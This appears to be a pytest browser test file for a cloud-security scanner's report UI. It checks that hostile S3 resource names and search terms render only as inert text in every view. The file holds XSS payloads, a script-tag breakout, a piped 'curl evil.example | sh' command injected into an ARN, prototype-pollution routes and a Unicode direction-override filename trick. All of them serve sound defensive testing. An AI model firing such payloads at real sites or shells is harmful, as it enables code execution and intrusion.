"""Names that attack the page: they are text, they run nothing, and they do not break the layout."""

from __future__ import annotations

from typing import Any

import html_samples_changes as more
import pytest

from scanner.model import fingerprint

pytestmark = pytest.mark.browser

VIEWS = ("#/overview", "#/findings?v=all&g=none", "#/resources", "#/changes", "#/coverage")
DETAILS = [
    f"#/findings/{fingerprint(rule, f'arn:aws:s3:::{text}')}?v=all"
    for rule, texts in (("s3-bucket-policy-public", more.samples.HOSTILE), ("s3-bucket-versioning", more.HOSTILE))
    for text in texts
]
MADE = "img, iframe, object, embed, main script, main style, main link, main svg[onload], math, marquee, base, [style*=url]"


def assert_is_text(page: Any) -> None:
    assert page.run("return window.pwned") is None
    assert page.run("return document.querySelectorAll(arguments[0]).length", MADE) == 0
    attributes = "return [...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())"
    assert not [name for name in page.run(attributes) if name.startswith("on")]
    links = page.run("return [...document.querySelectorAll('a')].map((a) => a.getAttribute('href'))")
    assert all(link.startswith(("#", "https:")) for link in links)
    unseen = page.run(
        r"return document.body.innerText.match(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f\x00-\x08\ud800-\udfff]/)"
    )
    assert unseen is None


@pytest.mark.parametrize("width", [1440, 390])
@pytest.mark.parametrize("hash_", VIEWS)
def test_hostile_names_are_text_in_every_view(page: Any, hash_: str, width: int) -> None:
    page.open(more.hostile_everywhere, hash_, width=width)
    if "changes" in hash_:
        page.wait_for_text("#view", "Scope")
    assert "onerror=window.pwned=1" in page.run("return document.querySelector('#main').textContent")
    assert_is_text(page)
    assert page.overflow() == []
    assert page.nodes() < 1500


@pytest.mark.parametrize("hash_", DETAILS)
def test_hostile_details_are_text(page: Any, hash_: str) -> None:
    page.open(more.hostile_everywhere, hash_, width=390)
    page.wait_for_text(".detail", "Fingerprint")
    assert_is_text(page)
    assert page.overflow() == []
    assert page.run("return document.querySelector('.dbody').scrollWidth") <= 390


@pytest.mark.parametrize("index", range(len(more.HOSTILE)))
def test_hostile_resources_are_text(page: Any, index: int) -> None:
    page.open(more.hostile_everywhere, "#/resources", width=390)
    script = "const [id, view] = arguments; location.hash = '#/resources/' + encodeURIComponent(id); return view"
    text = more.HOSTILE[index]
    page.run(
        script,
        f"arn:aws:s3:::{text}" if text.isprintable() else "arn:aws:s3:::</script><script>window.pwned=1</script>",
    )
    page.wait_for_text(".detail", "Configuration")
    assert_is_text(page)
    assert page.overflow() == []


def test_what_turns_the_reading_direction_is_shown(page: Any) -> None:
    page.open(more.hostile_everywhere, "#/findings?v=all&g=none")
    assert any("a⟨U+202E⟩gnp.exe⟨U+0007⟩" in text for text in page.texts(".vr.f .m"))


def test_a_command_in_a_fix_is_only_text(page: Any) -> None:
    mark = fingerprint("s3-bucket-versioning", "arn:aws:s3:::; curl evil.example | sh #")
    page.open(more.hostile_everywhere, f"#/findings/{mark}?v=all")
    page.wait_for_text(".detail", "Fingerprint")
    assert_is_text(page)


def test_a_hostile_search_is_only_a_search(page: Any) -> None:
    page.open(
        more.hostile_everywhere, "#/findings?v=all&q=%3Cimg+src%3Dx+onerror%3Dwindow.pwned%3D1%3E&s=%3Cb%3E&g=__proto__"
    )
    assert_is_text(page)
    page.open(more.hostile_everywhere, "#/constructor/%E0%A4%A?v=%")
    assert page.text("h1") == "Overview"


@pytest.mark.parametrize("hash_", ["#/changes/__proto__", "#/coverage/constructor", "#/resources/%00", "#/findings/zz"])
def test_a_hostile_link_leads_somewhere(page: Any, hash_: str) -> None:
    page.open(more.hostile_everywhere, hash_)
    assert page.text("h1").lower() in hash_
    assert_is_text(page)
